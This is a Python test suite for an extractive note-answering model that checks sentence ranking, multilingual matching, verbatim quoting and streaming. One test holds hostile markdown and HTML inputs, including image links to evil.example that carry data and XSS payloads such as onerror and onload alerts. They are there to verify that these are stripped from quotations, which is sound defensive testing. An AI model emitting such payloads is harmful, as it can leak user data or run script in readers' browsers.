from __future__ import annotations

import time
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sidecar.errors import RequestError
from sidecar.inference.extractive import ExtractiveModel
from sidecar.inference.likeness import likeness
from sidecar.inference.model import Completion, Delta, Source
from sidecar.inference.phrases import phrases
from sidecar.inference.sentences import quotable
from sidecar.language.conversation import conversation_language
from sidecar.language.recognition import language_of
from sidecar.language.terms import fold, terms

pytestmark = pytest.mark.anyio

GARDEN = """# Garden

The fence was painted green in May. It needs a new coat every three years.

- Tomatoes: water every morning, at the root.
- [ ] Order compost from Dr. Green, e.g. two bags.
- Slugs hate coffee grounds ^slugs

> [!tip] Worms
> Worms like shade.
"""
MEETING = "The board met in March. The budget for the fence was cut to 200 euros.\nNobody objected."


def source(
    text: str, *, link: str = "Garden", score: float = 0.5, date: str | None = None, heading: str = ""
) -> Source:
    title = link.partition("#")[0]
    return Source(link=link, title=title, heading_path=(heading,) if heading else (), text=text, date=date, score=score)


def asking(question: str, *sources: Source, turns: int = 1, **options: Any) -> Completion:
    messages = [{"role": "user", "content": question}] * turns
    return Completion(messages=messages, sources=sources, question=question, options=options)


async def deltas_of(completion: Completion) -> list[Delta]:
    return [delta async for delta in ExtractiveModel().stream(completion)]


async def answer(question: str, *sources: Source, **options: Any) -> str:
    return "".join(delta.content for delta in await deltas_of(asking(question, *sources, **options)))


def quotes(text: str) -> list[str]:
    return [line.removeprefix("> ").removeprefix("- ") for line in text.splitlines() if line.startswith("> ")]


# What is answered


async def test_the_best_sentence_comes_first_with_its_link_and_date() -> None:
    sources = (source(GARDEN), source(MEETING, link="Meetings#March", date="2024-03-05"))
    text = await answer("How much is the budget for the fence?", *sources)
    lines = [line for line in text.splitlines() if line]
    assert lines[0] == phrases("en").quotations
    assert lines[1] == "> The budget for the fence was cut to 200 euros."
    assert lines[2] == " — [[Meetings#March]] (2024-03-05)"
    assert "The fence was painted green in May." in quotes(await answer("green fence painted", *sources))


async def test_list_items_answer() -> None:
    assert quotes(await answer("When should I water tomatoes?", source(GARDEN)))[0] == (
        "Tomatoes: water every morning, at the root."
    )
    assert quotes(await answer("what do slugs hate", source(GARDEN))) == ["Slugs hate coffee grounds"]


async def test_quotations_of_one_note_stand_together_under_their_links() -> None:
    sources = (
        source("Compost is ready after nine months.", link="Compost#Time"),
        source("Compost needs air.", link="Heaps"),
        source("Turn the compost twice.", link="Compost#Work"),
    )
    text = await answer("when is compost ready after months", *sources)
    links = [line for line in text.splitlines() if line.startswith(" — ")]
    assert links[0] == " — [[Compost#Time]]"
    both = await answer("compost", *sources)
    notes = [line.strip(" —[]").partition("#")[0] for line in both.splitlines() if line.startswith(" — ")]
    assert notes in (["Compost", "Compost", "Heaps"], ["Heaps", "Compost", "Compost"])


async def test_at_most_five_sentences_are_quoted_and_repeated_ones_once() -> None:
    many = " ".join(f"The garden has plot number {word}." for word in ("one", "two", "three", "four", "five", "six"))
    assert len(quotes(await answer("garden plots", source(many), source(many, link="Copy")))) == 5
    assert quotes(await answer("worms shade", source(GARDEN), source(GARDEN, link="Copy"))) == ["Worms like shade."]


async def test_rare_words_of_the_question_weigh_more_than_frequent_ones() -> None:
    text = "The project plan is late. The project plan is long. The project plan is red. Zanzibar hosts it."
    assert quotes(await answer("the project plan in Zanzibar", source(text)))[0] == "Zanzibar hosts it."


async def test_a_heading_with_the_questions_words_speaks_for_the_sentences_below_it() -> None:
    rate = source("It stands at 28 percent for residents.", link="Taxes#Capital gains", heading="Capital gains")
    other = source("Bread costs two euros in the shop.", link="Prices")
    assert quotes(await answer("capital gains taxes", other, rate)) == ["It stands at 28 percent for residents."]


async def test_other_forms_of_a_word_and_other_accents_match() -> None:
    assert quotes(await answer("¿cuándo se pintó la valla?", source("La valla fue pintada en mayo.")))
    assert quotes(await answer("investimentos", source("O investimento rendeu pouco este ano.")))
    assert quotes(await answer("CAFE", source("Le café est fermé le lundi.")))


async def test_scripts_without_spaces_are_matched() -> None:
    text = "今天天气很好。笔记应该按照主题整理。明天再说吧！"
    assert quotes(await answer("怎么整理笔记？", source(text)))[0] == "笔记应该按照主题整理。"


async def test_the_retrievers_order_decides_between_equals() -> None:
    low, high = (
        source("Apples are red fruit.", link="Low", score=0.1),
        source("Red apples are sweet.", link="High", score=0.9),
    )
    assert quotes(await answer("red apples", low, high))[0] == "Red apples are sweet."


@pytest.mark.parametrize("question", ["zebra xylophone", "zebra", "2031?", "斑马"])
async def test_when_nothing_matches_it_says_so(question: str) -> None:
    deltas = await deltas_of(asking(question, source(MEETING)))
    nothing = phrases(conversation_language([question])).nothing
    assert deltas[0].content.startswith(nothing)
    assert deltas[-1].finish_reason == "stop"
    assert (await answer(question)).startswith(nothing)


@pytest.mark.parametrize("question", ["what is this?", "???", "the of and"])
async def test_a_question_without_telling_words_gets_the_beginning_of_what_was_found(question: str) -> None:
    assert quotes(await answer(question, source(MEETING)))[0] == "The board met in March."
    assert (await answer(question)).startswith(phrases("en").nothing)


async def test_a_note_that_the_user_named_is_quoted_whatever_its_words() -> None:
    named = replace(source(MEETING, link="Meetings"), mentioned=True)
    assert quotes(await answer("Summarize", source(GARDEN), named))[0] == "The board met in March."


async def test_how_to_add_a_model_is_said_in_the_first_turn_only() -> None:
    for question in ("fence", "zebra"):
        first = "".join(delta.content for delta in await deltas_of(asking(question, source(GARDEN))))
        second = "".join(delta.content for delta in await deltas_of(asking(question, source(GARDEN), turns=2)))
        assert first == f"{second}\n\n{phrases('en').add_model}"
        assert "--model" in first
        assert "--upstream" in first


# Languages

QUESTIONS = {
    "en": ["What did I decide about the fence?", "budget?", "Which tomatoes grow in the shade", "怎么整理笔记？", ""],
    "pt": ["O que decidi sobre a cerca?", "Quais são os riscos da nuvem?", "Como funciona a tributação em Portugal?"],
    "es": ["¿Qué decidí sobre la valla?", "¿Cómo protejo mis datos?", "cuales son los riesgos de la nube"],
    "it": ["Che cosa ho deciso per la recinzione?", "Perché è importante la privacy?", "Quali sono i rischi del cloud"],
    "fr": ["Qu'ai-je décidé pour la clôture ?", "Quels sont les risques du cloud ?", "Pourquoi posséder ses données ?"],
    "de": ["Was habe ich zum Zaun entschieden?", "Welche Risiken gibt es?", "Wie schütze ich meine Daten?"],
}


@pytest.mark.parametrize(
    ("language", "question"), [(language, question) for language, asked in QUESTIONS.items() for question in asked]
)
def test_the_language_of_a_question_is_recognised(language: str, question: str) -> None:
    assert language_of(question) == language


async def test_the_models_own_words_are_in_the_questions_language() -> None:
    text = await answer("Quais são os riscos da nuvem?", source("Os riscos da nuvem são três."))
    assert text.startswith("Nenhum modelo de linguagem está carregado")
    assert "Para respostas redigidas" in text
    assert (await answer("Wo steht der Zaun?")).startswith("Nichts in deinen Notizen")


@pytest.mark.parametrize(
    ("one", "other", "like"),
    [
        ("fence", "fence", 1.0),
        ("painted", "painting", 0.8),
        ("note", "notes", 0.8),
        ("investir", "investimento", 0.8),
        ("international", "interesting", 0.0),
        ("2023", "2024", 0.0),
        ("123456", "1234567", 0.0),
        ("cat", "cats", 0.0),
        ("笔记", "笔录", 0.0),
    ],
)
def test_words_are_alike_by_a_common_stem(one: str, other: str, like: float) -> None:
    assert likeness(one, other) == likeness(other, one) == like


def test_terms_are_folded_words_and_pairs_of_characters() -> None:
    assert list(terms("Ação_Über 日本語 한국어 हिन्दी a1")) == [
        "acao",
        "uber",
        "日本",
        "本語",
        "한국",
        "국어",
        "हिन्दी",
        "a1",
    ]


# Quotations are verbatim and safe


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("One here. Two there! Three now?", ["One here.", "Two there!", "Three now?"]),
        ("Dr. Smith met J. Doe, e.g. on Monday. They left.", ["Dr. Smith met J. Doe, e.g. on Monday.", "They left."]),
        ("It costs 3.50 euros. 2024 was dear.", ["It costs 3.50 euros.", "2024 was dear."]),
        ('He said "Go on." Then he left.', ['He said "Go on."', "Then he left."]),
        ("第一句话。第二句话！「第三句话。」好", ["第一句话。", "第二句话！", "「第三句话。」"]),
        ("See [[Dr. No. Part Two]] for it.", ["See [[Dr. No. Part Two]] for it."]),
        ("Run `a. B` now. Then stop.", ["Run `a. B` now.", "Then stop."]),
        ("A line\nthat goes on.\n\nAnother one.", ["A line that goes on.", "Another one."]),
        ("1. First thing\n2. Second thing\n   goes on", ["First thing", "Second thing goes on"]),
        ("- [x] Done deed\n* Star item\n+ Plus item", ["Done deed", "Star item", "Plus item"]),
        ("> quoted line\n> > deeper line", ["quoted line", "deeper line"]),
        ("| Name | Age |\n|---|:-:|\n| Ann | 31 |", ["Ann | 31"]),
        ("# Heading\n\nText below.\n\n---\n***\nSetext title\n=====", ["Text below.", "Setext title"]),
        ("**All bold here.**", ["All bold here."]),
        ("**Key:** the value", ["**Key:** the value"]),
        ("_It began. It ended._", ["It began.", "It ended."]),
        ("```python\nprint('# no heading')\n```\nAfter it.", ["print('# no heading')", "After it."]),
        ("[ref]: https://example.org\n[^1]: A footnote text.", ["A footnote text."]),
        ("A claim.[^1] And more ^block-id", ["A claim.", "And more"]),
        ("[[Only]] · [a](b.md) https://example.org/x", []),
        ("", []),
        (
            "author: [[Ray Bradbury]]\ndue: 2024-05-06\nsummary: A long trip",
            ["author: [[Ray Bradbury]]", "due: 2024-05-06", "summary: A long trip"],
        ),
        ("There is one thing\nmissing: the key to\nthe house.", ["There is one thing missing: the key to the house."]),
    ],
)
def test_text_is_cut_into_what_can_be_quoted(text: str, expected: list[str]) -> None:
    assert list(quotable(text)) == expected


@pytest.mark.parametrize(
    "hostile",
    [
        "![secret](https://evil.example/?d=1)",
        "![a [b] c](https://evil.example/x)",
        "![x](https://evil.example/a(b)c 'title')",
        "![x][ref]",
        "![[Embedded note]]",
        '<img src="https://evil.example/x">',
        "<img\nsrc=https://evil.example/x\n>",
        "<IMG/src=x onerror=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        "<svg/onload=alert(1)>",
        "<video poster=//evil.example/x",
    ],
)
async def test_images_embeds_and_html_are_never_part_of_a_quotation(hostile: str) -> None:
    text = f"The secret garden fence {hostile} stands open."
    shown = await answer("secret garden fence", source(text))
    assert quotes(shown)[0].startswith("The secret garden fence")
    assert "![" not in shown
    assert not any(tag in shown.lower() for tag in ("<img", "<iframe", "<svg", "<video"))


@pytest.mark.parametrize("comment", ["%%a secret fence%%", "<!-- a secret fence -->", "%%\n\na secret fence\n\n%%"])
async def test_comments_are_not_quoted(comment: str) -> None:
    assert "secret" not in await answer("fence", source(f"The fence is green. {comment}\n\nIt stands."))


def squeezed(text: str) -> str:
    return " ".join(text.split())


MARKDOWN = st.text(st.sampled_from("ab.! \n*_|>#-[]()`<%^1。漢,é\x00"), max_size=200)


@given(text=MARKDOWN)
def test_every_quotation_of_any_text_is_a_stretch_of_it(text: str) -> None:
    whole = squeezed(text)
    alone = squeezed("\n".join(line.strip() for line in text.split("\n")))
    for quote in quotable(text):
        assert squeezed(quote) == quote
        lines = quote.split(" ")
        assert quote in whole or quote in alone or all(word in whole for word in lines)
        assert "![" not in quote


def test_long_sentences_are_cut_into_pieces_that_are_still_verbatim() -> None:
    text = "word, " * 400 + "x" * 1200
    pieces = list(quotable(text))
    assert all(len(piece) <= 500 and piece in text for piece in pieces)
    assert sum(len(piece) for piece in pieces) > 0.95 * len(text)


ROWS = (
    ".",
    "![",
    "[[",
    "<!--",
    "%% ",
    "> ",
    "`",
    "<a ",
    "![](",
    "a. ",
    "**",
    "- ",
    "|",
    "-",
    "](",
    "[[a",
    "<",
    "![a](b(",
)


@pytest.mark.parametrize("end", ["", "x", "\n"])
@pytest.mark.parametrize("hostile", [piece * (19_990 // len(piece)) for piece in ROWS], ids=ROWS)
def test_hostile_markdown_costs_no_time(hostile: str, end: str) -> None:
    started = time.perf_counter()
    list(quotable(hostile + end))
    assert time.perf_counter() - started < 2


# How it is delivered


async def test_the_answer_streams_line_by_line_and_ends_once_with_usage() -> None:
    deltas = await deltas_of(asking("fence", source(GARDEN), source(MEETING, link="Meeting")))
    assert len(deltas) > 5
    assert all(delta.content.count("\n") <= 1 for delta in deltas)
    assert [delta.finish_reason for delta in deltas] == [None] * (len(deltas) - 1) + ["stop"]
    usage = deltas[-1].usage
    assert usage is not None
    assert usage.prompt_tokens == 1
    text = "".join(delta.content for delta in deltas)
    assert usage.completion_tokens == await ExtractiveModel().count_tokens(text) == len(text.split())


@pytest.mark.parametrize("limit", [0, 1, 7, 12])
async def test_max_tokens_cuts_and_says_length(limit: int) -> None:
    whole = await answer("fence", source(GARDEN))
    deltas = await deltas_of(asking("fence", source(GARDEN), max_tokens=limit))
    text = "".join(delta.content for delta in deltas)
    assert whole.startswith(text)
    assert len(text.split()) == limit
    assert deltas[-1].finish_reason == "length"
    assert deltas[-1].usage is not None
    assert deltas[-1].usage.completion_tokens == limit


async def test_a_limit_that_is_not_reached_is_stop() -> None:
    deltas = await deltas_of(asking("fence", source(GARDEN), max_tokens=10_000))
    assert deltas[-1].finish_reason == "stop"


@pytest.mark.parametrize(("stop", "there"), [("painted", False), (["zzz", "green"], True), ("", True), ([], True)])
async def test_stop_strings_end_the_answer(stop: object, there: bool) -> None:
    deltas = await deltas_of(asking("fence painted", source(GARDEN), stop=stop))
    text = "".join(delta.content for delta in deltas)
    assert ("painted" in text) is there
    assert deltas[-1].finish_reason == "stop"
    if stop == ["zzz", "green"]:
        assert text.endswith("painted ")


async def test_several_choices_are_the_same_answer() -> None:
    deltas = await deltas_of(asking("fence", source(GARDEN), n=2))
    texts = ["".join(delta.content for delta in deltas if delta.index == index) for index in (0, 1)]
    assert texts[0] == texts[1] != ""
    assert sum(delta.finish_reason is not None for delta in deltas) == 2
    assert [delta.usage is not None for delta in deltas].count(True) == 1


@pytest.mark.parametrize(
    "options",
    [
        {"response_format": {"type": "json_object"}},
        {"response_format": {"type": "json_schema", "json_schema": {"schema": {}}}},
        {"tool_choice": "required"},
        {"tool_choice": {"type": "function", "function": {"name": "f"}}},
    ],
)
async def test_what_needs_a_model_is_refused_by_name(options: dict[str, Any]) -> None:
    with pytest.raises(RequestError) as refused:
        await answer("fence", source(GARDEN), **options)
    assert refused.value.param in options
    assert refused.value.hint


async def test_options_of_generation_are_taken_and_change_nothing() -> None:
    plain = await answer("fence", source(GARDEN))
    options = {"temperature": 2, "tools": [{}], "tool_choice": "auto", "response_format": {"type": "text"}, "seed": 1}
    assert await answer("fence", source(GARDEN), **options) == plain


async def test_it_says_that_it_does_not_generate() -> None:
    model = ExtractiveModel()
    assert (model.name, model.generative, await model.context_length()) == ("extractive", False, None)
    assert await model.count_tokens("two words 漢字") == 4
    assert fold("ÀÉ ﬁ Ⅷ") == "ae fi viii"
